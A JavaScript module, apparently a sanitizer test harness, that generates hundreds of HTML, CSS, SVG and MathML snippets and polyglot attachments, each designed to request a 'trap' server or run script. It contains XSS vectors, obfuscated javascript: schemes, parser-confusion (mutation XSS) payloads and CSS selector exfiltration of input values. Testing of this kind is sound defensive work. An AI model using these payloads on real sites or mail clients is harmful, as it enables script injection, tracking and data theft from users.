// What HTML, CSS and SVG know to load, to run and to lead away with. Each names itself in what it would ask for.

/** vectors returns pieces of HTML that would ask the server at trap, by name. */
export function vectors(trap) {
  const at = (name) => `${trap}/${name}`;
  const css = Object.entries(sheets(at)).map(([name, sheet]) => [`css-${name}`, `<style>${sheet}</style><div class="${name}" style="width:9px;height:9px">x</div>`]);
  const said = (name) => `parent.postMessage('${name}','*')`;
  return [...Object.entries({ ...metas(at), ...links(at), ...media(at), ...drawings(at, said), ...embedded(at, said), ...attributes(at), ...handlers(said) }), ...css, ...styles(at)];
}

/** sheets are style sheets that load something. */
function sheets(at) {
  const rule = (name, property) => `.${name}{${property.replace('URL', at(`css-${name}`))}}`;
  return {
    import1: `@import "${at('import1')}";`, import2: `@import url(${at('import2')}) screen;`, import3: `@IMPORT\tURL("${at('import3')}");`, import4: `@\\69 mport "${at('import4')}";`, import5: `@import url("${at('import5')}") layer(x) supports(display:grid);`,
    namespace: `@namespace url(${at('namespace')});`, charset: `@charset "utf-8";@import '${at('charset')}';`, cdo: `<!-- @import "${at('cdo')}"; -->`,
    background: rule('background', 'background:url(URL)'), quoted: rule('quoted', "background:url( 'URL' )"), escaped: rule('escaped', 'background:u\\72 l(URL)'), escaped2: rule('escaped2', 'background:\\000075rl(URL)'), spaced: rule('spaced', 'background:url(\n\tURL\n)'),
    slashes: `.slashes{background:url(${at('slashes').replace('http:', '')})}`, backslashes: `.backslashes{background:url("${at('backslashes').replace(/\//g, '\\\\')}")}`, hidden: rule('hidden', 'background:/**/url(/**/URL)'),
    list: `li.list,.list{display:list-item;list-style-image:url(${at('css-list')})}`, content: `.content::before{content:url(${at('css-content')})}`, cursor: rule('cursor', 'cursor:url(URL),auto'), border: rule('border', 'border:3px solid;border-image:url(URL) 3'),
    mask: rule('mask', 'mask-image:url(URL)'), webkitmask: rule('webkitmask', '-webkit-mask-image:url(URL)'), clip: rule('clip', 'clip-path:url(URL#c)'), filter: rule('filter', 'filter:url(URL#f)'), backdrop: rule('backdrop', 'backdrop-filter:url(URL#f)'), shape: rule('shape', 'float:left;shape-outside:url(URL)'), offset: rule('offset', 'offset-path:url(URL#p)'),
    set: rule('set', 'background:image-set("URL" 1x)'), set2: rule('set2', 'background:-webkit-image-set(url(URL) 1x)'), fade: rule('fade', 'background:-webkit-cross-fade(url(URL),url(URL),50%)'), src: rule('src', 'background:src("URL")'), variable: rule('variable', '--x:url(URL);background:var(--x)'),
    font: `@font-face{font-family:f1;src:url(${at('css-font')})}.font{font-family:f1}`, range: `@font-face{font-family:f2;src:local(none),url(${at('css-range')}) format("woff2");unicode-range:U+78}.range{font-family:f2}`,
    frames: `@keyframes k{from,to{background:url(${at('css-frames')})}}.frames{animation:k 1s infinite}`, counter: `@counter-style c{system:cyclic;symbols:url(${at('css-counter')})}.counter{display:list-item;list-style:c}`, property: `@property --p{syntax:"<image>";inherits:false;initial-value:url(${at('css-property')})}.property{background:var(--p)}`,
    page: `@page{background:url(${at('css-page')})}`, media: `@media all{.media{background:url(${at('css-media')})}}`, supports: `@supports(display:block){.supports{background:url(${at('css-supports')})}}`, layer: `@layer a{.layer{background:url(${at('css-layer')})}}`, nested: `div{&.nested{background:url(${at('css-nested')})}}`,
    secret: `input[value^=s]{background:url(${at('css-secret')})}`, visited: `a:visited{background:url(${at('css-visited')})}a:link{background:url(${at('css-unvisited')})}`, selection: `::selection{background:url(${at('css-selection')})}`, behaviour: rule('behaviour', 'behavior:url(URL);-moz-binding:url(URL)'), expression: rule('expression', "width:expression(parent.postMessage('expression','*'))"),
    close: `</STYLE ><img src=${at('css-close')} onerror="parent.postMessage('close','*')"><style>`, unclosed: `.unclosed{background:url("${at('css-unclosed')}`,
  };
}

/** styles are attributes of style. */
function styles(at) {
  return [['style', `<div style="background:url(${at('style')})">x</div>`], ['style-entity', `<div style="background:&#117;rl(${at('style-entity')})">x</div>`], ['style-unknown', `<x-y style="display:block;background:url(${at('style-unknown')})">x</x-y>`], ['style-broken', `<div style="color:red;}</style>*{background:url(${at('style-broken')})">x</div>`]];
}

function metas(at) {
  return {
    refresh: `<meta http-equiv="refresh" content="0;url=${at('refresh')}">`, refresh2: `<META HTTP-EQUIV=ReFrEsH CONTENT="0; ${at('refresh2')}">`, policy: `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">`, cookie: '<meta http-equiv="set-cookie" content="a=b">', referrer: '<meta name="referrer" content="unsafe-url">',
    dns: '<meta http-equiv="x-dns-prefetch-control" content="on">', base: `<base href="${at('base')}/" target="_top">`, pi: `<?xml-stylesheet href="${at('pi')}" type="text/css"?>`, doctype: `<!DOCTYPE x SYSTEM "${at('doctype')}" [<!ENTITY e SYSTEM "${at('entity')}">]>&e;`,
    conditional: `<!--[if gte mso 9]><v:background fill="t"><v:fill src="${at('vml')}"/></v:background><![endif]-->`, manifest: `<html manifest="${at('manifest')}">`, rules: `<script type="speculationrules">{"prerender":[{"source":"list","urls":["${at('rules')}"]}]}</script>`,
  };
}

function links(at) {
  const out = {};
  for (const rel of ['stylesheet', 'alternate stylesheet', 'prefetch', 'prerender', 'preconnect', 'dns-prefetch', 'modulepreload', 'icon', 'apple-touch-icon', 'manifest', 'search', 'pingback', 'next', 'author', 'expect']) out[`link-${rel.replace(' ', '-')}`] = `<link rel="${rel}" href="${at(`link-${rel.replace(' ', '-')}`)}">`;
  for (const as of ['image', 'style', 'font', 'script', 'fetch', 'document']) out[`preload-${as}`] = `<link rel="preload" as="${as}" href="${at(`preload-${as}`)}" crossorigin>`;
  return { ...out, imagesrcset: `<link rel="preload" as="image" imagesrcset="${at('imagesrcset')} 1x">`, datasheet: `<link rel="stylesheet" href="data:text/css,@import%20url(${at('datasheet')})">` };
}

function media(at) {
  return {
    img: `<img src="${at('img')}">`, srcset: `<img srcset="${at('srcset')} 1x, ${at('srcset2')} 2x" sizes="100vw">`, picture: `<picture><source srcset="${at('picture')}"><img src="data:,"></picture>`, image: `<image src="${at('image')}">`, lowsrc: `<img lowsrc="${at('lowsrc')}" dynsrc="${at('dynsrc')}" longdesc="${at('longdesc')}">`, slashes: `<img src="${at('slashes').replace('http:', '')}">`, tabs: `<img src=" ht\ntp:${at('tabs').slice(5)}">`,
    attribution: `<img src="data:," attributionsrc="${at('attribution')}"><a attributionsrc="${at('attribution2')}" href="#x">x</a>`, video: `<video autoplay muted src="${at('video')}" poster="${at('poster')}"><source src="${at('source')}"><track default src="${at('track')}"></video>`, audio: `<audio autoplay src="${at('audio')}"></audio>`, bgsound: `<bgsound src="${at('bgsound')}">`,
    submit: `<input type="image" src="${at('submit')}" formaction="${at('formaction')}">`, svgdata: `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><image xlink:href='${at('svgdata')}'/></svg>">`, fileimg: '<img src="file:///etc/hostname"><img src="view-source:x"><img src="blob:null/x">',
  };
}

function drawings(at, said) {
  const svg = (inner) => `<svg width="9" height="9" xmlns:xlink="http://www.w3.org/1999/xlink">${inner}</svg>`;
  return {
    svgimage: svg(`<image href="${at('svgimage')}" width="9" height="9"/><image xlink:href="${at('svgxlink')}"/>`), svguse: svg(`<use href="${at('svguse')}#x"/>`), svgfilter: svg(`<filter id="f"><feImage href="${at('feimage')}"/></filter><rect filter="url(#f)" width="9" height="9"/><rect fill="url(${at('svgfill')}#p)" width="9" height="9"/>`), svgstyle: svg(`<style>@import "${at('svgstyle')}";*{fill:url(${at('svgstyle2')})}</style>`),
    svgset: svg(`<image><set attributeName="href" to="${at('svgset')}"/><animate attributeName="xlink:href" values="${at('svganimate')}"/></image>`), svgforeign: svg(`<foreignObject><img src="${at('svgforeign')}"><iframe src="${at('svgframe')}"></iframe></foreignObject>`), svgscript: svg(`<script href="${at('svgscript')}"/><script>${said('svgscript')}</script>`), svgload: `<svg onload="${said('svgload')}"><animate onbegin="${said('onbegin')}" attributeName="x" dur="1s"/></svg>`,
    math: `<math href="${at('mathhref')}"><maction actiontype="statusline" xlink:href="${at('maction')}">x</maction><mglyph src="${at('mglyph')}"/></math>`, annotation: `<math><annotation-xml encoding="text/html"><img src="${at('annotation')}"><style><img src="${at('annotation2')}" onerror="${said('annotation')}"></style></annotation-xml></math>`, mixed: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${at('mixed')} onerror=${said('mixed')}&gt;"></table></mtext></math>`, svgmixed: `<svg></p><style><a id="</style><img src=${at('svgmixed')} onerror=${said('svgmixed')}>">`,
  };
}

function embedded(at, said) {
  return {
    object: `<object data="${at('object')}" type="text/html"><param name="movie" value="${at('param')}"></object>`, embed: `<embed src="${at('embed')}"><embed type="image/svg+xml" src="data:image/svg+xml,<svg onload=${said('embed')}>">`, applet: `<applet code="${at('applet')}" archive="${at('archive')}" codebase="${at('codebase')}"></applet>`,
    iframe: `<iframe src="${at('iframe')}"></iframe><frameset><frame src="${at('frame')}"></frameset>`, srcdoc: `<iframe srcdoc="<img src=${at('srcdoc')}><script>parent.${said('srcdoc')}</script>"></iframe>`, dataframe: `<iframe src="data:text/html,<img src=${at('dataframe')}>"></iframe><iframe src="javascript:${said('jsframe')}"></iframe>`, portal: `<portal src="${at('portal')}"></portal><fencedframe src="${at('fenced')}"></fencedframe>`,
    template: `<div><template shadowrootmode="open"><img src="${at('shadow')}"><style>:host{background:url(${at('host')})}</style></template></div>`, noscript: `<noscript><img src="${at('noscript')}"><p title="</noscript><img src=${at('noscript2')} onerror=${said('noscript')}>">`, xmp: `<xmp><img src="${at('xmp')}"></xmp><noembed><img src="${at('noembed')}"></noembed><noframes><img src="${at('noframes')}"></noframes>`, comment: `<!--><img src="${at('comment')}">--><!-- --!><img src="${at('comment2')}">-->`,
    cdata: `<![CDATA[<img src="${at('cdata')}">]]>`, select: `<select><option><style></select><img src="${at('select')}" onerror="${said('select')}"></style>`, textarea: `<textarea></textarea ><img src="${at('textarea')}">`, title: `<title><img src="${at('title')}"></title>`, import: `<link rel="import" href="${at('import')}">`, keygen: `<keygen challenge="${at('keygen')}"><isindex action="${at('isindex')}">`,
  };
}

function attributes(at) {
  return {
    body: `<body background="${at('body')}">`, table: `<table background="${at('table')}"><tr background="${at('tr')}"><td background="${at('td')}">x</td></tr></table>`, form: `<form action="${at('form')}" target="_top"><input name="q" value="secret" autofocus><button formaction="${at('button')}" formtarget="_top">x</button><input type="submit"></form>`,
    ping: `<a class="click" href="https://elsewhere.invalid/" ping="${at('ping')}">x</a><map name="m"><area ping="${at('areaping')}" href="#x" shape="default"></map>`, cite: `<blockquote cite="${at('cite')}">x</blockquote><q cite="${at('q')}">x</q>`, button: `<button popovertarget="p" command="show-popover" commandfor="p">x</button><div id="p" popover style="background:url(${at('popover')})">x</div>`, dialog: `<dialog open><img src="${at('dialog')}"></dialog>`,
  };
}

function handlers(said) {
  const out = {};
  for (const name of ['onfocus', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onscroll', 'onbeforeinput', 'oncontentvisibilityautostatechange', 'onpageshow', 'onhashchange', 'onwheel', 'onselectstart', 'onbeforetoggle']) out[name] = `<div tabindex="0" autofocus ${name}="${said(name)}" style="animation:k 1s;overflow:auto;content-visibility:auto">x</div>`;
  const links = ['javascript:', 'JaVaScRiPt:', ' javascript:', 'java\nscript:', 'java&#9;script:', '&#x6A;avascript&colon;', 'javascript&#58;', 'vbscript:', 'data:text/html,<script>', '\u0001javascript:'];
  links.forEach((scheme, at) => (out[`href${at}`] = `<a class="click" target="_self" href="${scheme}${said(`href${at}`)}">x</a>`));
  return { ...out, details: `<details open ontoggle="${said('details')}"><summary>x</summary></details>`, marquee: `<marquee onstart="${said('marquee')}">x</marquee>`, error: `<img src=x onerror="${said('error')}"><img src=x onerror=${said('bare')}>`, slash: `<img/src=x/onerror=${said('slash')}>`, quote: `<img alt="\`><img src=x onerror=${said('quote')}>">` };
}

/** files are attachments that a browser would run, if it were let. */
export function files(trap) {
  const script = (name) => `<script>fetch('${trap}/file-${name}');opener&&opener.postMessage('${name}','*')</script><img src="${trap}/file-${name}-img">`;
  const svg = (name) => `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('${trap}/file-${name}')</script><image href="${trap}/file-${name}-img"/></svg>`;
  return [
    ['image/svg+xml', 'a.svg', svg('svg')], ['text/html', 'a.html', script('html')], ['application/xhtml+xml', 'a.xhtml', `<html xmlns="http://www.w3.org/1999/xhtml"><body>${script('xhtml')}</body></html>`],
    ['application/xml', 'a.xml', `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${trap}/file-xsl"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>fetch('${trap}/file-xml')</h:script></x>`], ['text/xml', 'b.xml', svg('textxml')],
    ['application/pdf', 'a.pdf', `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(${trap}/file-pdf)>>>>endobj`], ['text/plain', 'a.txt', script('text')], ['application/octet-stream', 'a.bin', script('octets')], ['image/png', 'a.png', `<html>${script('png')}`], ['image/gif', 'a.gif', `GIF89a/*${script('gif')}*/=1`],
    ['text/javascript', 'a.js', `fetch('${trap}/file-js')`], ['text/css', 'a.css', `@import '${trap}/file-css';`], ['multipart/x-mixed-replace; boundary=z', 'a.mixed', `--z\nContent-Type: text/html\n\n${script('mixed')}\n--z--`], ['message/rfc822', 'a.eml', `Content-Type: text/html\n\n${script('eml')}`], ['application/vnd.wap.xhtml+xml', 'a.wap', script('wap')], ['text/x-server-parsed-html', 'a.shtml', script('shtml')],
  ];
}
